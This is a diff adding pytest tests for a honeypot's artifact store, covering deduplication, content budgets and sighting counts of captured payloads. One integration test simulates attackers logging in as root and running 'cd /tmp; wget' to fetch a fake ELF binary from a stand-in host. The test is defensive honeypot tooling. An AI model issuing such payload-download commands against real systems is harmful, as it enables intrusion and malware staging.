@@ -1,0 +1,90 @@
+"""Tests for the artifact store."""
+
+import pytest
+
+from repro.honeypot.artifacts import ArtifactStore
+from repro.honeypot.filesystem import hash_content
+
+
+class TestArtifactStore:
+    def test_submit_and_get(self):
+        store = ArtifactStore()
+        artifact = store.submit(b"payload", now=10.0, source_ip=7)
+        assert artifact.sha256 == hash_content(b"payload")
+        assert store.get(artifact.sha256) is artifact
+        assert artifact.sha256 in store
+        assert store.content(artifact.sha256) == b"payload"
+
+    def test_dedup(self):
+        store = ArtifactStore()
+        a = store.submit(b"same", now=1.0)
+        b = store.submit(b"same", now=5.0)
+        assert a is b
+        assert len(store) == 1
+        assert a.times_seen == 2
+        assert a.first_seen == 1.0
+        assert a.last_seen == 5.0
+        assert store.dedup_ratio == 2.0
+
+    def test_sources_accumulate(self):
+        store = ArtifactStore()
+        store.submit(b"x", now=0.0, source_ip=1)
+        artifact = store.submit(b"x", now=1.0, source_ip=2)
+        assert artifact.sources == {1, 2}
+
+    def test_distinct_content_distinct_artifacts(self):
+        store = ArtifactStore()
+        store.submit(b"one", now=0.0)
+        store.submit(b"two", now=0.0)
+        assert len(store) == 2
+
+    def test_content_budget(self):
+        store = ArtifactStore(keep_content_bytes=10)
+        a = store.submit(b"12345678", now=0.0)  # fits
+        b = store.submit(b"123456789012", now=0.0)  # over budget
+        assert a.content is not None
+        assert b.content is None
+        assert b.size == 12  # metadata retained
+
+    def test_top_by_sightings(self):
+        store = ArtifactStore()
+        for _ in range(5):
+            store.submit(b"popular", now=0.0)
+        store.submit(b"rare", now=0.0)
+        top = store.top_by_sightings(1)
+        assert top[0].times_seen == 5
+
+    def test_singletons(self):
+        store = ArtifactStore()
+        store.submit(b"a", now=0.0)
+        store.submit(b"a", now=1.0)
+        store.submit(b"b", now=0.0)
+        singles = store.singletons()
+        assert len(singles) == 1
+        assert singles[0].sha256 == hash_content(b"b")
+
+    def test_empty_ratio(self):
+        assert ArtifactStore().dedup_ratio == 0.0
+
+    def test_session_integration(self):
+        """Artifacts from a live session land in the store with dedup."""
+        from repro.honeypot import Honeypot, HoneypotConfig
+        from repro.honeypot.shell.resolver import StaticPayloadResolver
+
+        store = ArtifactStore()
+        resolver = StaticPayloadResolver({"http://h.example/b": b"\x7fELF-b"})
+        hp = Honeypot(HoneypotConfig("h", 1, "DE", 1), resolver=resolver)
+        for client_ip in (11, 22):
+            session = hp.accept(client_ip, 1, 22, now=0.0)
+            session.try_login("root", "pw", 0.5)
+            session.input_line("cd /tmp; wget http://h.example/b", 1.0)
+            for download in session.shell_context.downloads:
+                if download.success:
+                    content = session.fs.read(download.saved_path)
+                    store.submit(content, now=1.0, source_ip=client_ip)
+            session.client_disconnect(2.0)
+        hp.reap(3.0)
+        assert len(store) == 1
+        artifact = store.artifacts()[0]
+        assert artifact.times_seen == 2
+        assert artifact.sources == {11, 22}
